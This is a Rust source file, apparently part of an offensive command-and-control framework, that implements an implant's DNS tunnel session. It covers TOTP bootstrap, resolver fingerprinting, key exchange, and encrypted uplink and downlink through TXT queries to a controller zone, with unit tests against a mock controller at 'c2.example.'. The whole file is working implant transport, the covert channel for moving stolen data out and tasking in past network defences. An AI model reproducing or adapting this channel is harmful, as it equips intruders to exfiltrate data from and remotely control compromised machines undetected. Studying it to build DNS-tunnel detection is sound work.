//! The DNS tunnel session.
//!
//! A session is established in four steps: a TOTP-authenticated `A` probe
//! that assigns the 24-bit session id, concurrent resolver fingerprinting
//! (evicting anything that corrupts traffic), an `INIT` exchange that
//! delivers a fresh symmetric key to the controller, and finally one lookup
//! worker per surviving resolver. Uplink envelopes are fragmented and sent
//! strictly in order on a single resolver; downlink envelopes are announced
//! by a manifest and fetched as offset-addressed fragments in parallel
//! across the worker pool.

use crate::config::Config;
use crate::crypto::{CipherContext, EccServerHandshake, KeyExchange, SessionKey, TotpGenerator};
use crate::encoders::{Base32, Base58, Encoder};
use crate::error::TunnelError;
use crate::fingerprint::{fingerprint_resolvers, ResolverMetadata};
use crate::framing::{msg_id, Framer, MessageKind, TunnelMessage, SESSION_ID_BITMASK};
use crate::resolver::{resolvers_from_config, DnsResolver, SharedResolver};
use crate::worker::{QueryKind, Work, Worker};
use prost::Message;
use rand::Rng;
use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicUsize, Ordering};
use std::sync::mpsc::{self, Receiver, SyncSender};
use std::sync::{Arc, Mutex};
use tracing::{debug, warn};

/// Ceiling on controller payload bytes per TXT answer: the worst-case
/// base-64-equivalent capacity of a TXT record minus record metadata.
const BYTES_PER_TXT: u32 = 182;

/// A live tunnel to the controller behind `parent`.
pub struct DnsSession {
    framer: Framer,
    dns_session_id: u32,
    msg_count: AtomicU32,
    cipher: CipherContext,
    resolvers: Vec<SharedResolver>,
    metadata: HashMap<String, ResolverMetadata>,
    workers: Mutex<Vec<Worker>>,
    worker_cursor: AtomicUsize,
    closed: AtomicBool,
}

impl DnsSession {
    /// Runs the full handshake against the parent zone in `config` and
    /// returns a usable session, or the first fatal error.
    pub fn connect(config: &Config) -> Result<Self, TunnelError> {
        let resolvers = resolvers_from_config(config)?;
        let key_exchange = EccServerHandshake::new(config.controller_key()?);
        let totp = TotpGenerator::new(config.totp_secret_bytes()?);
        Self::establish(config, resolvers, &key_exchange, &totp)
    }

    pub(crate) fn establish(
        config: &Config,
        mut resolvers: Vec<SharedResolver>,
        key_exchange: &dyn KeyExchange,
        totp: &TotpGenerator,
    ) -> Result<Self, TunnelError> {
        if resolvers.is_empty() {
            return Err(TunnelError::NoResolvers);
        }
        let framer = Framer::new(&config.parent);
        debug!(
            parent = framer.parent(),
            resolvers = resolvers.len(),
            "establishing dns session"
        );

        let dns_session_id = bootstrap_session_id(&framer, totp, &resolvers)?;
        debug!(dns_session_id, "session id assigned");

        let mut metadata =
            fingerprint_resolvers(&framer, dns_session_id, config.force_base32, &resolvers);
        resolvers.retain(|resolver| {
            let healthy = metadata
                .get(resolver.address())
                .map(|meta| meta.errors == 0)
                .unwrap_or(false);
            if !healthy {
                warn!(
                    resolver = resolver.address(),
                    "evicting resolver after failed fingerprint"
                );
            }
            healthy
        });
        metadata.retain(|address, _| resolvers.iter().any(|r| r.address() == address.as_str()));
        if resolvers.is_empty() {
            return Err(TunnelError::NoResolvers);
        }

        // Key agreement: wrap a fresh session key to the controller, which
        // must echo our session id back under the new cipher.
        let session_key = SessionKey::random();
        let cipher = CipherContext::new(&session_key);
        let init_data = key_exchange.encrypt_to_server(session_key.as_bytes())?;

        let msg_count = AtomicU32::new(0);
        let index = rand::thread_rng().gen_range(0..resolvers.len());
        let resolver = &resolvers[index];
        let meta = &metadata[resolver.address()];
        let mut init_msg = TunnelMessage {
            id: next_msg_id(&msg_count, dns_session_id),
            kind: MessageKind::Init as i32,
            size: init_data.len() as u32,
            ..Default::default()
        };
        let response = serial_send(
            &framer,
            resolver.as_ref(),
            encoder_for(meta),
            &mut init_msg,
            &init_data,
        )?;
        let confirmation = cipher
            .decrypt(&response)
            .map_err(|_| TunnelError::InvalidResponse)?;
        if confirmation.len() < 4 {
            return Err(TunnelError::InvalidResponse);
        }
        let echoed = u32::from_le_bytes([
            confirmation[0],
            confirmation[1],
            confirmation[2],
            confirmation[3],
        ]);
        if echoed & SESSION_ID_BITMASK != dns_session_id {
            return Err(TunnelError::InvalidResponse);
        }
        debug!("key exchange complete");

        let workers = resolvers
            .iter()
            .enumerate()
            .map(|(id, resolver)| Worker::spawn(id, Arc::clone(resolver)))
            .collect();

        Ok(DnsSession {
            framer,
            dns_session_id,
            msg_count,
            cipher,
            resolvers,
            metadata,
            workers: Mutex::new(workers),
            worker_cursor: AtomicUsize::new(0),
            closed: AtomicBool::new(false),
        })
    }

    /// The 24-bit id negotiated during the handshake.
    pub fn session_id(&self) -> u32 {
        self.dns_session_id
    }

    /// Fingerprint metadata for the resolvers that survived.
    pub fn resolver_metadata(&self) -> impl Iterator<Item = &ResolverMetadata> {
        self.metadata.values()
    }

    /// Sends one envelope to the controller. Fragments are issued strictly
    /// in order on a single resolver so the controller can reassemble
    /// without buffering.
    pub fn write_envelope(&self, envelope: &[u8]) -> Result<(), TunnelError> {
        if self.closed.load(Ordering::SeqCst) {
            return Err(TunnelError::Closed);
        }
        let (resolver, meta) = self.random_resolver();
        let mut msg = TunnelMessage {
            id: self.next_msg_id(),
            kind: MessageKind::DataFromImplant as i32,
            size: envelope.len() as u32,
            ..Default::default()
        };
        serial_send(
            &self.framer,
            resolver.as_ref(),
            encoder_for(meta),
            &mut msg,
            envelope,
        )?;
        Ok(())
    }

    /// Polls the controller for a pending envelope; `Ok(None)` means none
    /// is queued.
    pub fn read_envelope(&self) -> Result<Option<Vec<u8>>, TunnelError> {
        if self.closed.load(Ordering::SeqCst) {
            return Err(TunnelError::Closed);
        }
        let (resolver, meta) = self.random_resolver();
        let poll = TunnelMessage {
            kind: MessageKind::Poll as i32,
            ..Default::default()
        };
        let encoded = encoder_for(meta).encode(&poll.encode_to_vec());
        let domain = self.framer.join_subdata(&encoded)?;
        let (answer, _) = resolver.txt(&domain)?;
        if answer.is_empty() {
            return Ok(None);
        }

        let manifest = TunnelMessage::decode(answer.as_slice())
            .map_err(|_| TunnelError::InvalidResponse)?;
        if manifest.kind() != MessageKind::Manifest {
            return Err(TunnelError::InvalidResponse);
        }
        let ciphertext = self.parallel_recv(&manifest)?;
        let envelope = self
            .cipher
            .decrypt(&ciphertext)
            .map_err(|_| TunnelError::InvalidResponse)?;
        Ok(Some(envelope))
    }

    /// Closes the session and tears down the worker pool. Idempotent.
    pub fn close(&self) {
        if self.closed.swap(true, Ordering::SeqCst) {
            return;
        }
        let drained: Vec<Worker> = {
            let mut workers = self.workers.lock().expect("worker pool lock poisoned");
            workers.drain(..).collect()
        };
        for worker in drained {
            worker.shutdown();
        }
        debug!("session closed");
    }

    /// Fans the manifest's fragments out across the worker pool and
    /// reassembles them by absolute offset. Worker completion order is
    /// irrelevant: every fragment declares where it lands.
    fn parallel_recv(&self, manifest: &TunnelMessage) -> Result<Vec<u8>, TunnelError> {
        let size = manifest.size;
        debug!(id = manifest.id, size, "fetching inbound envelope");

        let mut results: Vec<Receiver<Result<Vec<u8>, TunnelError>>> = Vec::new();
        let mut start = 0u32;
        while start < size {
            let stop = u32::min(start + BYTES_PER_TXT, size);
            let request = TunnelMessage {
                id: manifest.id,
                kind: MessageKind::DataToImplant as i32,
                start,
                stop,
                ..Default::default()
            };
            // Fragment requests are small and always fit in base32.
            let encoded = Base32.encode(&request.encode_to_vec());
            let domain = self.framer.join_subdata(&encoded)?;
            let (sink, result) = mpsc::sync_channel(1);
            self.next_worker_queue()?
                .send(Work {
                    kind: QueryKind::Txt,
                    domain,
                    sink: Some(sink),
                })
                .map_err(|_| TunnelError::Closed)?;
            results.push(result);
            start = stop;
        }

        let mut buf = vec![0u8; size as usize];
        for result in results {
            let answer = result.recv().map_err(|_| TunnelError::Closed)??;
            let fragment = TunnelMessage::decode(answer.as_slice())
                .map_err(|_| TunnelError::InvalidResponse)?;
            if fragment.kind() != MessageKind::DataToImplant {
                return Err(TunnelError::InvalidResponse);
            }
            let frag_start = fragment.start as usize;
            if size < fragment.start || frag_start + fragment.data.len() > size as usize {
                return Err(TunnelError::InvalidIndex);
            }
            buf[frag_start..frag_start + fragment.data.len()].copy_from_slice(&fragment.data);
        }
        Ok(buf)
    }

    fn next_msg_id(&self) -> u32 {
        next_msg_id(&self.msg_count, self.dns_session_id)
    }

    fn random_resolver(&self) -> (&SharedResolver, &ResolverMetadata) {
        let index = rand::thread_rng().gen_range(0..self.resolvers.len());
        let resolver = &self.resolvers[index];
        (resolver, &self.metadata[resolver.address()])
    }

    fn next_worker_queue(&self) -> Result<SyncSender<Work>, TunnelError> {
        let workers = self.workers.lock().expect("worker pool lock poisoned");
        if workers.is_empty() {
            return Err(TunnelError::Closed);
        }
        let index = self.worker_cursor.fetch_add(1, Ordering::Relaxed) % workers.len();
        Ok(workers[index].queue())
    }
}

impl Drop for DnsSession {
    fn drop(&mut self) {
        self.close();
    }
}

fn encoder_for(meta: &ResolverMetadata) -> &'static dyn Encoder {
    if meta.enable_base58 {
        &Base58
    } else {
        &Base32
    }
}

fn next_msg_id(count: &AtomicU32, session_id: u32) -> u32 {
    let seq = count.fetch_add(1, Ordering::SeqCst).wrapping_add(1) % 255;
    msg_id(session_id, seq)
}

/// Asks the controller for a session id via a TOTP-authenticated `A`
/// probe, trying each resolver in order until one answers.
fn bootstrap_session_id(
    framer: &Framer,
    totp: &TotpGenerator,
    resolvers: &[SharedResolver],
) -> Result<u32, TunnelError> {
    let code: u32 = totp
        .code_now()
        .parse()
        .map_err(|_| TunnelError::Config("totp code is not numeric".to_string()))?;
    // Carrying the code in `id` rides the varint encoding, keeping the
    // bootstrap query short.
    let otp_msg = TunnelMessage {
        id: code,
        kind: MessageKind::Totp as i32,
        ..Default::default()
    };
    let domain = framer.join_subdata(&Base32.encode(&otp_msg.encode_to_vec()))?;

    let mut answer = None;
    let mut last_err = TunnelError::NoResolvers;
    for resolver in resolvers {
        match resolver.a(&domain) {
            Ok((data, _)) => {
                answer = Some(data);
                break;
            }
            Err(err) => last_err = err,
        }
    }
    let answer = match answer {
        Some(answer) => answer,
        None => return Err(last_err),
    };
    if answer.len() < 4 {
        return Err(TunnelError::InvalidDnsSessionId);
    }
    let session_id =
        u32::from_le_bytes([answer[0], answer[1], answer[2], answer[3]]) & SESSION_ID_BITMASK;
    if session_id == 0 {
        return Err(TunnelError::InvalidDnsSessionId);
    }
    Ok(session_id)
}

/// Fragments `data` and issues the TXT queries strictly in order on one
/// resolver, concatenating the per-query answers.
fn serial_send(
    framer: &Framer,
    resolver: &dyn DnsResolver,
    encoder: &dyn Encoder,
    msg: &mut TunnelMessage,
    data: &[u8],
) -> Result<Vec<u8>, TunnelError> {
    let domains = framer.split_buffer(msg, encoder, data)?;
    debug!(fragments = domains.len(), "serial send");
    let mut response = Vec::new();
    for domain in &domains {
        let (answer, _) = resolver.txt(domain)?;
        response.extend_from_slice(&answer);
    }
    Ok(response)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::crypto::CryptoError;
    use crate::fingerprint::crc32_ieee;
    use std::thread;
    use std::time::Duration;

    const PARENT: &str = "c2.example.";
    const SESSION_ID: u32 = 0x0056_1234;

    /// In-process controller shared by the mock resolvers. Speaks the real
    /// wire protocol over the `DnsResolver` seam.
    struct MockController {
        session_id: u32,
        cipher: Mutex<Option<CipherContext>>,
        pending: Mutex<Option<Vec<u8>>>,
        uplink: Mutex<Vec<u8>>,
        uplink_next: AtomicU32,
        queries: AtomicUsize,
        bad_index: AtomicBool,
    }

    impl MockController {
        fn new() -> Arc<Self> {
            Arc::new(Self {
                session_id: SESSION_ID,
                cipher: Mutex::new(None),
                pending: Mutex::new(None),
                uplink: Mutex::new(Vec::new()),
                uplink_next: AtomicU32::new(0),
                queries: AtomicUsize::new(0),
                bad_index: AtomicBool::new(false),
            })
        }

        /// Queues a plaintext envelope, encrypted under the session cipher
        /// negotiated during the handshake.
        fn queue_envelope(&self, plaintext: &[u8]) {
            let cipher = self.cipher.lock().unwrap();
            let ciphertext = cipher
                .as_ref()
                .expect("handshake must complete before queueing")
                .encrypt(plaintext)
                .unwrap();
            *self.pending.lock().unwrap() = Some(ciphertext);
        }

        fn queue_raw(&self, ciphertext: Vec<u8>) {
            *self.pending.lock().unwrap() = Some(ciphertext);
        }

        fn query_count(&self) -> usize {
            self.queries.load(Ordering::SeqCst)
        }
    }

    struct MockResolver {
        address: String,
        controller: Arc<MockController>,
        corrupt_base32: bool,
        corrupt_base58: bool,
    }

    impl MockResolver {
        fn shared(
            address: &str,
            controller: &Arc<MockController>,
            corrupt_base32: bool,
            corrupt_base58: bool,
        ) -> SharedResolver {
            Arc::new(MockResolver {
                address: address.to_string(),
                controller: Arc::clone(controller),
                corrupt_base32,
                corrupt_base58,
            })
        }
    }

    fn extract_subdata(fqdn: &str) -> String {
        fqdn.strip_suffix(PARENT)
            .expect("query must target the parent zone")
            .trim_end_matches('.')
            .replace('.', "")
    }

    /// Decodes a query, detecting which alphabet produced it. Canonical
    /// base32 re-encodes to itself, so base58 never masquerades as base32.
    fn parse_query(subdata: &str) -> Option<(TunnelMessage, Vec<u8>, bool)> {
        if let Ok(raw) = Base32.decode(subdata) {
            if Base32.encode(&raw) == subdata {
                if let Ok(msg) = TunnelMessage::decode(raw.as_slice()) {
                    return Some((msg, raw, false));
                }
            }
        }
        let raw = Base58.decode(subdata).ok()?;
        let msg = TunnelMessage::decode(raw.as_slice()).ok()?;
        Some((msg, raw, true))
    }

    impl DnsResolver for MockResolver {
        fn address(&self) -> &str {
            &self.address
        }

        fn a(&self, fqdn: &str) -> Result<(Vec<u8>, Duration), TunnelError> {
            self.controller.queries.fetch_add(1, Ordering::SeqCst);
            let subdata = extract_subdata(fqdn);
            let (msg, raw, base58) =
                parse_query(&subdata).ok_or(TunnelError::InvalidResponse)?;
            let rtt = Duration::from_millis(1);
            match msg.kind() {
                MessageKind::Totp => Ok((self.controller.session_id.to_le_bytes().to_vec(), rtt)),
                MessageKind::Nop => {
                    let corrupted = if base58 {
                        self.corrupt_base58
                    } else {
                        self.corrupt_base32
                    };
                    let checksum = if corrupted {
                        crc32_ieee(&raw) ^ 0xdead_beef
                    } else {
                        crc32_ieee(&raw)
                    };
                    Ok((checksum.to_le_bytes().to_vec(), rtt))
                }
                _ => Err(TunnelError::InvalidResponse),
            }
        }

        fn txt(&self, fqdn: &str) -> Result<(Vec<u8>, Duration), TunnelError> {
            self.controller.queries.fetch_add(1, Ordering::SeqCst);
            let subdata = extract_subdata(fqdn);
            let (msg, _raw, _base58) =
                parse_query(&subdata).ok_or(TunnelError::InvalidResponse)?;
            let rtt = Duration::from_millis(1);
            match msg.kind() {
                MessageKind::Init => {
                    if msg.id & SESSION_ID_BITMASK != self.controller.session_id {
                        return Err(TunnelError::InvalidResponse);
                    }
                    // The test key exchange is a passthrough, so the INIT
                    // payload is the session key itself.
                    let key: [u8; 32] = msg
                        .data
                        .as_slice()
                        .try_into()
                        .map_err(|_| TunnelError::InvalidResponse)?;
                    let cipher = CipherContext::new(&SessionKey::from_bytes(key));
                    let confirmation = cipher
                        .encrypt(&self.controller.session_id.to_le_bytes())
                        .unwrap();
                    *self.controller.cipher.lock().unwrap() = Some(cipher);
                    Ok((confirmation, rtt))
                }
                MessageKind::Poll => match self.controller.pending.lock().unwrap().as_ref() {
                    None => Ok((Vec::new(), rtt)),
                    Some(ciphertext) => {
                        let manifest = TunnelMessage {
                            id: msg_id(self.controller.session_id, 7),
                            kind: MessageKind::Manifest as i32,
                            size: ciphertext.len() as u32,
                            ..Default::default()
                        };
                        Ok((manifest.encode_to_vec(), rtt))
                    }
                },
                MessageKind::DataToImplant => {
                    let ciphertext = self
                        .controller
                        .pending
                        .lock()
                        .unwrap()
                        .clone()
                        .ok_or(TunnelError::InvalidResponse)?;
                    let size = ciphertext.len();

                    if self.controller.bad_index.load(Ordering::SeqCst) {
                        let reply = TunnelMessage {
                            id: msg.id,
                            kind: MessageKind::DataToImplant as i32,
                            start: (size as u32).saturating_sub(10),
                            stop: msg.stop,
                            data: vec![0u8; 20],
                            ..Default::default()
                        };
                        return Ok((reply.encode_to_vec(), rtt));
                    }

                    let start = msg.start as usize;
                    let stop = usize::min(msg.stop as usize, size);
                    // Stall the first fragment so completion order differs
                    // from submission order across workers.
                    if start == 0 {
                        thread::sleep(Duration::from_millis(30));
                    }
                    let reply = TunnelMessage {
                        id: msg.id,
                        kind: MessageKind::DataToImplant as i32,
                        start: msg.start,
                        stop: stop as u32,
                        data: ciphertext[start..stop].to_vec(),
                        ..Default::default()
                    };
                    Ok((reply.encode_to_vec(), rtt))
                }
                MessageKind::DataFromImplant => {
                    if msg.id & SESSION_ID_BITMASK != self.controller.session_id {
                        return Err(TunnelError::InvalidResponse);
                    }
                    let expected = self.controller.uplink_next.fetch_add(1, Ordering::SeqCst);
                    if msg.start != expected {
                        return Err(TunnelError::InvalidResponse);
                    }
                    self.controller
                        .uplink
                        .lock()
                        .unwrap()
                        .extend_from_slice(&msg.data);
                    Ok((Vec::new(), rtt))
                }
                _ => Err(TunnelError::InvalidResponse),
            }
        }
    }

    struct PassthroughKeyExchange;

    impl KeyExchange for PassthroughKeyExchange {
        fn encrypt_to_server(&self, plaintext: &[u8]) -> Result<Vec<u8>, CryptoError> {
            Ok(plaintext.to_vec())
        }
    }

    fn test_config() -> Config {
        Config {
            parent: PARENT.to_string(),
            resolvers: vec![],
            controller_public_key: String::new(),
            totp_secret: String::new(),
            retry_wait_ms: 1,
            retry_count: 1,
            query_timeout_ms: 100,
            force_base32: false,
        }
    }

    fn connect(resolvers: Vec<SharedResolver>) -> Result<DnsSession, TunnelError> {
        DnsSession::establish(
            &test_config(),
            resolvers,
            &PassthroughKeyExchange,
            &TotpGenerator::new(b"shared-secret".to_vec()),
        )
    }

    #[test]
    fn handshake_happy_path_with_case_folding_resolver() {
        let controller = MockController::new();
        let resolver = MockResolver::shared("203.0.113.1:53", &controller, false, true);
        let session = connect(vec![resolver]).expect("handshake");

        assert_eq!(session.session_id(), 0x0056_1234);
        let meta: Vec<_> = session.resolver_metadata().collect();
        assert_eq!(meta.len(), 1);
        assert!(!meta[0].enable_base58);
        assert_eq!(meta[0].errors, 0);
        assert!(!meta[0].metrics.is_empty());
    }

    #[test]
    fn no_resolvers_fails_fast() {
        assert!(matches!(connect(vec![]), Err(TunnelError::NoResolvers)));
    }

    #[test]
    fn issued_message_ids_carry_the_session_id() {
        let controller = MockController::new();
        let resolver = MockResolver::shared("203.0.113.1:53", &controller, false, false);
        let session = connect(vec![resolver]).expect("handshake");
        for _ in 0..600 {
            assert_eq!(
                session.next_msg_id() & SESSION_ID_BITMASK,
                session.session_id()
            );
        }
    }

    #[test]
    fn write_envelope_arrives_in_order() {
        let controller = MockController::new();
        let resolver = MockResolver::shared("203.0.113.1:53", &controller, false, false);
        let session = connect(vec![resolver]).expect("handshake");

        let envelope: Vec<u8> = (0..600u32).map(|i| (i % 251) as u8).collect();
        session.write_envelope(&envelope).expect("write");
        assert_eq!(*controller.uplink.lock().unwrap(), envelope);
        assert!(controller.uplink_next.load(Ordering::SeqCst) >= 2);
    }

    #[test]
    fn read_envelope_returns_none_when_nothing_pending() {
        let controller = MockController::new();
        let resolver = MockResolver::shared("203.0.113.1:53", &controller, false, true);
        let session = connect(vec![resolver]).expect("handshake");
        assert!(session.read_envelope().expect("poll").is_none());
    }

    #[test]
    fn read_envelope_reassembles_parallel_fragments() {
        let controller = MockController::new();
        let resolvers = vec![
            MockResolver::shared("203.0.113.1:53", &controller, false, false),
            MockResolver::shared("203.0.113.2:53", &controller, false, false),
            MockResolver::shared("203.0.113.3:53", &controller, false, false),
        ];
        let session = connect(resolvers).expect("handshake");

        // 472 plaintext bytes seal to a 500-byte ciphertext, i.e. three
        // TXT fragments.
        let envelope: Vec<u8> = (0..472u32).map(|i| (i % 239) as u8).collect();
        controller.queue_envelope(&envelope);

        let received = session.read_envelope().expect("read").expect("envelope");
        assert_eq!(received, envelope);
    }

    #[test]
    fn read_envelope_rejects_out_of_bounds_fragment() {
        let controller = MockController::new();
        let resolver = MockResolver::shared("203.0.113.1:53", &controller, false, false);
        let session = connect(vec![resolver]).expect("handshake");

        controller.queue_raw(vec![0xab; 100]);
        controller.bad_index.store(true, Ordering::SeqCst);
        assert!(matches!(
            session.read_envelope(),
            Err(TunnelError::InvalidIndex)
        ));
    }

    #[test]
    fn closed_session_touches_no_network() {
        let controller = MockController::new();
        let resolver = MockResolver::shared("203.0.113.1:53", &controller, false, false);
        let session = connect(vec![resolver]).expect("handshake");

        session.close();
        let queries_before = controller.query_count();
        assert!(matches!(
            session.write_envelope(b"late"),
            Err(TunnelError::Closed)
        ));
        assert!(matches!(session.read_envelope(), Err(TunnelError::Closed)));
        assert_eq!(controller.query_count(), queries_before);

        // Idempotent.
        session.close();
    }

    #[test]
    fn corrupting_resolver_is_evicted() {
        let controller = MockController::new();
        let resolvers = vec![
            MockResolver::shared("203.0.113.1:53", &controller, false, false),
            MockResolver::shared("203.0.113.2:53", &controller, true, false),
            MockResolver::shared("203.0.113.3:53", &controller, false, false),
        ];
        let session = connect(resolvers).expect("handshake");

        assert_eq!(session.resolvers.len(), 2);
        assert_eq!(session.workers.lock().unwrap().len(), 2);
        assert!(session
            .resolver_metadata()
            .all(|meta| meta.address != "203.0.113.2:53" && meta.errors == 0));
    }
}
